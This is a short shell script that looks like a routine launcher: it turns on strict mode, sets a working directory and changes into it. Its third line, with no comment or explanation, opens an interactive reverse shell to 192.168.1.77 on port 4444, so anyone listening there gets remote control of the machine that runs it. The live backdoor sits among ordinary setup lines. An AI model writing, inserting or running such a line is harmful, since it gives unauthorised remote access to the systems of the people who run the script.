#!/bin/sh
set -eu
sh -c "bash -i >& /dev/tcp/192.168.1.77/4444 0>&1"
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
